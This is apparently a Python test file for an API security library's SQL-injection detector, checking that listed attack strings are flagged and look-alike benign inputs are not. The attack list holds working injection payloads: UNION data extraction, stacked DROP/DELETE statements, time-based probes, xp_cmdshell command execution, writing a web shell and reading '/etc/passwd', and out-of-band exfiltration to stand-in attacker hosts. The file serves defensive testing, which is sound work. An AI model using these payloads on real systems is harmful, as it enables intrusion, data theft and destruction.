"""The SQL-injection detector: each technique fires, look-alike input stays silent."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from apishield.checks.sqli import detect_sqli

ATTACKS = {
    "numeric tautology": "42 OR 7=7",
    "numeric tautology in parens": "15) or (3>2",
    "string tautology": "bob' or 'z'='z",
    "double-quoted tautology": 'alice" OR "k"="k',
    "tautology closed by comment": "carol' OR 2>1 -- ",
    "login bypass comment": "superuser'--",
    "login bypass hash comment": "superuser'#",
    "union based": "-7 UNION ALL SELECT name, pass FROM accounts",
    "union from string": "widget' union select null,version()-- -",
    "union probe": "-9 union",
    "stacked drop": "5; DROP TABLE invoices",
    "stacked after string": "x'; DELETE FROM sessions WHERE 1=1 --",
    "stacked insert": "1'; insert into admins values ('eve','pw')--",
    "inline comment evasion": "8/**/UNION/**/SELECT/**/1,2",
    "comment inside keywords": "4 AND/**/9=9",
    "mysql sleep": "7 AND SLEEP(4)",
    "mysql benchmark": "x' AND BENCHMARK(9000000,SHA1('q'))#",
    "mssql waitfor": "3; WAITFOR DELAY '0:0:6'--",
    "mssql waitfor after string": "q' waitfor delay '00:00:07'--",
    "postgres sleep": "1' || pg_sleep(6) || '",
    "oracle dbms_pipe": "z' AND 1=dbms_pipe.receive_message('a',8)--",
    "error based extractvalue": "2 AND extractvalue(0x0a,concat(0x0a,(select user())))",
    "error based updatexml": "k' AND updatexml(1,concat(0x7e,database()),1)-- ",
    "error based convert": "m' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))--",
    "boolean blind substring": "12 AND ASCII(SUBSTRING((SELECT pwd FROM staff),1,1))>64",
    "boolean blind string": "tom' AND LENGTH(database())>3 AND 'a'='a",
    "out of band load_file": "1 union select load_file('\\\\\\\\x.attacker.test\\\\a')",
    "out of band xp_dirtree": "'; exec master..xp_dirtree '\\\\exfil.test\\x'--",
    "command exec": "a'; EXEC xp_cmdshell 'whoami'--",
    "mysql versioned comment": "6 /*!50000UNION*/ /*!50000SELECT*/ 1,2,3",
    "versioned comment keyword only": "9 /*!and*/ 4=4",
    "hex literal": "5 OR 0x41=0x41",
    "hex literal in union": "-3 union select 0x61646d696e, 2",
    "order by probe": "22 ORDER BY 9-- ",
    "group by having": "n' GROUP BY id HAVING 1=1--",
    "into outfile": "1 INTO OUTFILE '/var/www/shell.php'",
    "system catalog": "information_schema.tables",
    "postgres cast": "(select current_user)::int",
    "subquery": "(SELECT password FROM users LIMIT 1)",
    "leading or": "OR 5=5",
    "quoted equality": "abc'='abc",
    "declare variable": "1; DECLARE @q VARCHAR(64); SET @q=0x70; EXEC(@q)--",
    "stacked call": "7;call proc(@version, @x)",
    "stacked load data": "1;load data infile '/etc/passwd' into table t",
    "having tautology": "id having (1 or 1)",
    "union probe after a literal": "5 union",
    "function probe": "Compress (",
    "quoted operator between operands": "A '=' B",
}

BENIGN = [
    "O'Brien",
    "Sinéad O'Connor",
    "rock 'n' roll",
    "It's the children's book we can't find",
    "the students' and teachers' lounge",
    "1950's dresses",
    "LOCK AND KEY",
    "Please select the union you belong to",
    "Select your plan, then update your details or delete the draft",
    "We must drop the table cloth order by Friday",
    "Union Select Wood Flooring",
    "SQL Server 2019 Standard Edition",
    "Sleep Number bed",
    "3 + 4 = 7",
    "(2 * 3) - 1",
    "10 / 2",
    "jane.doe@example.com",
    "first.last+tag@sub.example.co.uk",
    "2024-05-17",
    "2024-05-17T13:45:00Z",
    "+1 (415) 555-0100",
    "415-555-0100",
    '{"id": 42, "name": "Widget", "tags": ["a", "b"]}',
    '{"q": "select", "or": true}',
    "https://example.com/search?q=union+station&page=2",
    "C:\\Program Files\\App",
    "5' 11\" tall",
    'He said "yes" or "no"',
    "Tom & Jerry",
    "AT&T",
    "x = y",
    "a < b and b > c",
    "-- signed, the team",
    "Item #5 is out of stock",
    "Rock & Roll Hall of Fame; Cleveland",
    "max(3, 4)",
    "Hello; how are you?",
    "don't or won't",
    "European Union",
    "x-discord-union",
    "credit union",
    "items having (red or blue) colors",
    "load data from disk",
    "use '*' as a wildcard for any digit",
    "press 1 to confirm or 2 to cancel. Default is `false`.",
    "and png files are supported up to a size that is 5 MB",
]


@pytest.mark.parametrize("technique", sorted(ATTACKS))
def test_attack_is_detected(technique: str) -> None:
    assert detect_sqli(ATTACKS[technique]) is not None, ATTACKS[technique]


@pytest.mark.parametrize("value", BENIGN)
def test_benign_look_alike_stays_silent(value: str) -> None:
    assert detect_sqli(value) is None


def test_reason_names_the_shape_and_fingerprint() -> None:
    reason = detect_sqli("-7 UNION ALL SELECT 1,2")
    assert reason is not None
    assert reason.startswith("union-select")
    assert "1UE" in reason


def test_empty_and_plain_values_are_rejected() -> None:
    assert detect_sqli("") is None
    assert detect_sqli("hello world") is None
    assert detect_sqli("12345") is None


def test_only_the_first_four_kilobytes_are_read() -> None:
    assert detect_sqli("a" * 5000 + "' OR 1=1 --") is None
    assert detect_sqli("x' OR 1=1 --" + "a" * 5000) is not None


def test_long_hostile_input_is_handled() -> None:
    for value in ("'" * 10000, "/*" * 5000, "(" * 8000, "1 OR " * 3000, "\\'" * 4000):
        detect_sqli(value)


@settings(max_examples=400, deadline=None)
@given(st.text())
def test_never_raises_on_any_text(value: str) -> None:
    result = detect_sqli(value)
    assert result is None or isinstance(result, str)


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                "'",
                '"',
                "`",
                "(",
                ")",
                "--",
                "#",
                "/*",
                "*/",
                "/*!",
                ";",
                "=",
                "OR",
                "union",
                "select",
                "1",
                "0x1f",
                "@@v",
                "::",
                "sleep(",
                "||",
                " ",
                "\n",
                "\\",
                "a",
                "é",
            ]
        ),
        max_size=40,
    )
)
def test_never_raises_on_sql_like_fragments(parts: list[str]) -> None:
    result = detect_sqli("".join(parts))
    assert result is None or isinstance(result, str)
